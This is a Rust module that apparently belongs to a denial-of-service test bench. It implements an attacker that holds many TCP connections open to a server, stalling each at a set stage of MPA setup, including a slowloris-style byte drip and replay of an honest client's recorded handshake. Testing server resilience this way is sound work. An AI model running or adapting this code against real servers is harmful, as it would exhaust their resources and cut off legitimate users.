//! An attacker that opens TCP connections to a server, begins the connection setup on each, and stops the setup at a certain stage.

use std::collections::VecDeque;
use std::io::{self, BufRead, ErrorKind, Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use mio::net::TcpStream;
use mio::{Events, Interest, Poll, Token};
use serde::{Deserialize, Serialize};
use socket2::{Domain, Socket, Type};

use super::Result;
use super::credentials::Credentials;
use super::process::{GO, REPORT, answer};
use super::recording::{MPA_HEADER, Recording, startup_len};

/// The time between two bytes of an MPA request that is sent slowly.
const OCTET: Duration = Duration::from_secs(1);
/// The first source address of an attacker with [`Source::Many`].
const FIRST: u32 = Ipv4Addr::new(127, 0, 1, 1).to_bits();
/// The number of source addresses of an attacker with [`Source::Many`].
const MANY: u64 = 64;

/// The stage at which the attacker stops on a connection.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
pub enum Stage {
    /// The TCP connection is established, and nothing is sent.
    Connected,
    /// The attacker sends one byte of the MPA request per second.
    SlowRequest,
    /// The attacker has sent the MPA request. It does not wait for the reply.
    Requested,
    /// The attacker has received the MPA reply and sent the first FPDU of MPA's peer-to-peer mode. It sends neither the hello nor the
    /// security handshake.
    Started,
    /// The attacker has also sent the first part of the security handshake.
    HalfSecured,
    /// The connection is established, and a message was echoed.
    Up,
}

/// The source addresses of attackers.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub enum Source {
    /// The address that the honest clients use, too.
    Shared,
    /// A single address that no honest client uses.
    One,
    /// 64 addresses that no honest client uses.
    Many,
}

/// The plan of an attacker: which connections it opens, how fast, and where it stops.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Plan {
    /// The stage at which the attacker stops on each connection.
    pub stage: Stage,
    /// The largest number of open connections of the attacker.
    pub held: usize,
    /// The number of new connections per second; `None` for as many as possible.
    pub rate: Option<u32>,
    /// The source addresses of the connections.
    pub source: Source,
    /// The side that ends the connections, and the way in which it does so.
    pub end: End,
}

/// The side that ends the connections of an attacker, and the way in which it does so.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub enum End {
    /// The server ends the connections. When the attacker has [`Plan::held`] open connections, it opens no new one.
    Server,
    /// The attacker ends the connections. When it has [`Plan::held`] open connections, it closes the oldest one and opens a new one.
    Renewed,
    /// The attacker ends the connections. It resets each connection when the connection has reached the last stage.
    Reset,
}

/// The settings of the attacker's process.
#[derive(Clone, Debug, Serialize, Deserialize)]
pub struct Settings {
    /// The address of the server.
    pub server: SocketAddr,
    /// The credentials of an honest client. The attacker records the bytes of this client, and sends them again.
    pub credentials: Credentials,
    /// The plan of the attack.
    pub plan: Plan,
}

/// The counters of an attacker.
#[derive(Clone, Copy, Debug, Default, Serialize, Deserialize)]
pub struct Report {
    /// The number of TCP connections that were opened. In a flood, the number of messages that were
    /// sent. In an attack with lent memory, the number of lendings.
    pub opened: u64,
    /// The number of connections that have reached the stage at which the attacker stops.
    pub reached: u64,
    /// The number of MPA requests that the server has refused.
    pub refused: u64,
    /// The largest amount of the attacker's memory that was charged to the server at one time, in
    /// KiB.
    pub charged_kib: u64,
}

static OPENED: AtomicU64 = AtomicU64::new(0);
static REACHED: AtomicU64 = AtomicU64::new(0);
static REFUSED: AtomicU64 = AtomicU64::new(0);

fn count(what: &AtomicU64) {
    what.fetch_add(1, Ordering::Relaxed);
}

impl Source {
    /// Returns the source address of connection number `nth` of this attacker.
    fn address(self, nth: u64) -> Ipv4Addr {
        match self {
            Self::Shared => Ipv4Addr::LOCALHOST,
            Self::One => Ipv4Addr::new(127, 0, 0, 77),
            Self::Many => Ipv4Addr::from_bits(FIRST + (nth % MANY) as u32),
        }
    }
}

/// Creates a socket with this source address. When the socket is closed, TCP resets the connection, so that the kernel keeps no state of
/// the connection.
fn socket(source: Ipv4Addr) -> io::Result<Socket> {
    let socket = Socket::new(Domain::IPV4, Type::STREAM, None)?;
    socket.bind(&SocketAddr::new(IpAddr::V4(source), 0).into())?;
    socket.set_linger(Some(Duration::ZERO))?;
    socket.set_tcp_nodelay(true)?;
    Ok(socket)
}

/// The bytes that the attacker sends on a connection.
#[derive(Debug)]
struct Script {
    request: Vec<u8>,
    /// The bytes that the attacker sends after it has received the MPA reply.
    behind: Vec<u8>,
}

impl Script {
    fn new(settings: &Settings) -> Result<Self> {
        let stage = settings.plan.stage;
        if stage == Stage::Connected {
            return Ok(Self { request: Vec::new(), behind: Vec::new() });
        }
        let Recording { request, frames } = Recording::of(settings.server, &settings.credentials)?;
        let frames = match stage {
            Stage::Started => frames.get(..1),
            Stage::HalfSecured => frames.get(..2),
            // The first three frames: those of the setup, and one message. The later frames would close the connection, so the attacker
            // does not send them.
            Stage::Up => frames.get(..3),
            _ => Some(&[][..]),
        };
        Ok(Self { request, behind: frames.ok_or("an honest client sends fewer frames")?.concat() })
    }
}

/// An open connection of the attacker.
#[derive(Debug)]
struct Held {
    /// The number of the connection, counted from the attacker's first one.
    nth: u64,
    stream: TcpStream,
    /// The number of bytes of the MPA request that were sent.
    sent: usize,
    /// The part of the MPA reply that was received.
    reply: Vec<u8>,
    progress: Progress,
}

/// The stage that a connection has reached.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Progress {
    Connecting,
    /// The TCP connection is established. The MPA request was sent, or is being sent slowly.
    Connected,
    /// The MPA reply was received, and the bytes after it were sent.
    Answered,
}

impl Held {
    /// Continues a connection after an event. Returns `None` if the connection has ended or must be reset.
    fn go_on(&mut self, script: &Script, Plan { stage, end, .. }: Plan) -> Option<()> {
        let reached = || {
            count(&REACHED);
            (end != End::Reset).then_some(())
        };
        if self.progress == Progress::Connecting {
            if self.stream.take_error().ok()?.is_some() {
                return None;
            }
            match self.stream.peer_addr() {
                Ok(_) => self.progress = Progress::Connected,
                Err(error) if error.kind() == ErrorKind::NotConnected => return Some(()),
                Err(_) => return None,
            }
            count(&OPENED);
            if stage > Stage::SlowRequest {
                self.stream.write_all(&script.request).ok()?;
                self.sent = script.request.len();
            }
            if matches!(stage, Stage::Connected | Stage::Requested) {
                reached()?;
            }
        }
        let mut octets = [0; 1024];
        loop {
            match self.stream.read(&mut octets) {
                Ok(0) => return None,
                // The server has answered the bytes that were sent after the MPA reply, so the last stage is reached.
                Ok(_) if self.progress == Progress::Answered && end == End::Reset => return reached(),
                Ok(len) if self.progress == Progress::Connected => self.reply.extend_from_slice(&octets[..len]),
                Ok(_) => {}
                Err(error) if error.kind() == ErrorKind::WouldBlock => break,
                Err(_) => return None,
            }
        }
        if self.progress == Progress::Connected && startup_len(&self.reply).is_some_and(|len| self.reply.len() >= len) {
            self.progress = Progress::Answered;
            if is_refusal(&self.reply) {
                count(&REFUSED);
                return None;
            }
            self.stream.write_all(&script.behind).ok()?;
            if end != End::Reset {
                count(&REACHED);
            }
        }
        Some(())
    }

    /// Sends the next byte of the MPA request.
    fn drip(&mut self, script: &Script) {
        if let (Progress::Connected, Some(octet)) = (self.progress, script.request.get(self.sent)) {
            // The result is ignored: if the server has ended the connection, an event follows.
            let _ = self.stream.write(&[*octet]);
            self.sent += 1;
        }
    }
}

/// Returns true if this MPA reply refuses the connection.
fn is_refusal(reply: &[u8]) -> bool {
    const REJECT: u8 = 0x20;
    reply.len() >= MPA_HEADER && reply[16] & REJECT != 0
}

/// All open connections of the attacker.
struct Holding {
    poll: Poll,
    slots: Vec<Option<Held>>,
    vacant: Vec<usize>,
    /// The connections in the order of opening: the slot and the number of each. A connection that has ended may still be in the list.
    order: VecDeque<(usize, u64)>,
}

impl Holding {
    fn live(&self) -> usize {
        self.slots.len() - self.vacant.len()
    }

    fn open(&mut self, server: SocketAddr, source: Source, nth: u64) -> io::Result<()> {
        let socket = socket(source.address(nth))?;
        socket.set_nonblocking(true)?;
        match socket.connect(&server.into()) {
            Err(error) if error.raw_os_error() != Some(libc::EINPROGRESS) => return Err(error),
            _ => {}
        }
        let mut stream = TcpStream::from_std(socket.into());
        let slot = self.vacant.pop().unwrap_or_else(|| {
            self.slots.push(None);
            self.slots.len() - 1
        });
        self.poll.registry().register(&mut stream, Token(slot), Interest::READABLE | Interest::WRITABLE)?;
        self.slots[slot] = Some(Held { nth, stream, sent: 0, reply: Vec::new(), progress: Progress::Connecting });
        self.order.push_back((slot, nth));
        self.oldest();
        Ok(())
    }

    /// Returns the slot of the oldest open connection, or `None` if there is none.
    fn oldest(&mut self) -> Option<usize> {
        while let Some(&(slot, nth)) = self.order.front() {
            if self.slots[slot].as_ref().is_some_and(|connection| connection.nth == nth) {
                return Some(slot);
            }
            self.order.pop_front();
        }
        None
    }

    fn end(&mut self, slot: usize) {
        if self.slots[slot].take().is_some() {
            self.vacant.push(slot);
        }
    }
}

/// The rate at which connections are opened.
struct Pace {
    since: Instant,
    rate: u32,
    opened: u64,
}

impl Pace {
    /// Returns true if the next connection is due.
    fn is_due(&self) -> bool {
        self.since.elapsed().as_secs_f64() * f64::from(self.rate) >= self.opened as f64
    }
}

fn attack(settings: &Settings, script: &Script) -> Result<()> {
    /// The largest number of connections that are opened between two polls.
    const BURST: usize = 64;
    let Plan { stage, held, rate, source, end } = settings.plan;
    let mut holding = Holding { poll: Poll::new()?, slots: Vec::new(), vacant: Vec::new(), order: VecDeque::new() };
    let mut events = Events::with_capacity(4096);
    let mut pace = Pace { since: Instant::now(), rate: rate.unwrap_or(u32::MAX), opened: 0 };
    let (mut octet, mut nth) = (pace.since, 0);
    loop {
        for _ in 0..BURST {
            if !pace.is_due() {
                break;
            }
            if holding.live() >= held {
                if end == End::Server {
                    // If the attacker has opened fewer connections than its rate permits, it does not open the missing ones later.
                    pace = Pace { since: Instant::now(), opened: 0, ..pace };
                    break;
                }
                if let Some(oldest) = holding.oldest() {
                    holding.end(oldest);
                }
            }
            // The result is ignored: if no port or descriptor is left, the attacker continues with its open connections.
            let _ = holding.open(settings.server, source, nth);
            (pace.opened, nth) = (pace.opened + 1, nth + 1);
        }
        holding.poll.poll(&mut events, Some(Duration::from_millis(1)))?;
        for event in &events {
            let Token(slot) = event.token();
            let Some(connection) = holding.slots[slot].as_mut() else { continue };
            if connection.go_on(script, settings.plan).is_none() {
                holding.end(slot);
            }
        }
        if stage == Stage::SlowRequest && octet.elapsed() >= OCTET {
            octet = Instant::now();
            holding.slots.iter_mut().flatten().for_each(|connection| connection.drip(script));
        }
    }
}

/// Records an honest client's bytes, sends the answer that it is ready, and waits for the order to begin. Then attacks until standard input
/// ends.
///
/// # Errors
/// The recorded honest client cannot connect.
pub fn run(settings: &Settings) -> Result<()> {
    let script = Script::new(settings)?;
    answer(&Report::default())?;
    let mut line = String::new();
    io::stdin().lock().read_line(&mut line)?;
    if line.trim() != GO {
        return Ok(());
    }
    std::thread::spawn(|| {
        for line in io::stdin().lock().lines().map_while(std::result::Result::ok) {
            let now = |count: &AtomicU64| count.load(Ordering::Relaxed);
            let (opened, reached, refused) = (now(&OPENED), now(&REACHED), now(&REFUSED));
            let report = Report { opened, reached, refused, ..Report::default() };
            if line == REPORT && answer(&report).is_err() {
                break;
            }
        }
        std::process::exit(0);
    });
    attack(settings, &script)
}
